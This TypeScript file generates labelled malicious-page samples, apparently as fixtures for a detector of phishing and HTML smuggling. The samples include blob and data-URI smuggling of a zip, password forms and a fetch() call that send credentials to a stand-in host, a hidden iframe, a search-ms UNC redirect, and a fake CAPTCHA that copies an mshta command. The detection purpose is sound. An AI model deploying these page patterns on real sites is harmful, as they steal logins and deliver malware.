import { makeZip } from '../formats/zip-sample.ts'
import { type Sample, sample, word } from './sample.ts'

const host = 'https://collect.example.invalid'
const page = (title: string, body: string) =>
  `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}</body></html>`
/** It cannot be packed, so the text is long enough. */
const noise = Buffer.from(Array.from({ length: 1_500 }, (_, at) => (at * at * 31 + at * 7) & 255))
const packed = () => makeZip({ 'invoice.txt': noise }).toString('base64')
const save = word('msSave', 'OrOpenBlob')

export const pageSamples = (): Sample[] => [
  sample(
    'scan.html',
    'a file made by the page (blob)',
    'page.smuggling',
    page(
      'Document',
      `<script>var d = atob("${packed()}"); var b = new Blob([d]); var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "invoice.zip"; a.click();</script>`,
    ),
  ),
  sample(
    'old.html',
    'the same for old browsers',
    'page.smuggling',
    page(
      'Document',
      `<script>var d = atob("${packed()}"); window.navigator.${save}(new Blob([d]), "a.zip");</script>`,
    ),
  ),
  sample(
    'data.html',
    'a file in the address of a link',
    'page.data-download',
    page(
      'Document',
      `<a id="x" download="invoice.zip" href="data:application/zip;base64,${packed()}">open</a>`,
    ),
  ),
  sample(
    'picture.svg',
    'a picture with a script',
    'page.svg-script',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><script>location = "${host}/s"</script></svg>`,
  ),
  sample(
    'signin.html',
    'a password that goes elsewhere',
    'page.password-elsewhere',
    page(
      'Sign in',
      `<form method="post" action="${host}/p.php"><input name="u"><input type="password" name="p"></form>`,
    ),
  ),
  sample(
    'microsoft.html',
    'the name of a brand',
    'page.brand',
    page(
      'Microsoft 365 sign in',
      `<form method="post" action="${host}/p.php"><input type="password"></form>`,
    ),
  ),
  sample(
    'script.html',
    'a password sent by a script',
    'page.password-by-script',
    page(
      'Voice mail',
      `<input type="password" id="p"><script>fetch("${host}/c", {method: "POST", body: p.value})</script>`,
    ),
  ),
  sample(
    'written.html',
    'a page that is written by its script',
    'page.decoded-run',
    page(
      'x',
      `<script>document.write(atob("${Buffer.from(`<form action="${host}/p"><input type="password"></form>`).toString('base64')}"))</script>`,
    ),
  ),
  sample(
    'frame.html',
    'a hidden frame',
    'page.hidden-frame',
    page('News', `<iframe src="${host}/e" width="0" height="0"></iframe>`),
  ),
  sample(
    'refresh.html',
    'leads on to a program',
    'page.refresh-script',
    `<html><head><meta http-equiv="refresh" content="0; url=search-ms:query=invoice&crumb=location:\\\\192.0.2.1\\share"></head></html>`,
  ),
  sample(
    'captcha.html',
    'a command for the visitor to run',
    'page.clipboard-command',
    page(
      'Are you human?',
      `<p>Press Windows + R, then Ctrl + V</p><script>navigator.clipboard.writeText("${word('ms', 'hta')} ${host}/v")</script>`,
    ),
  ),
]
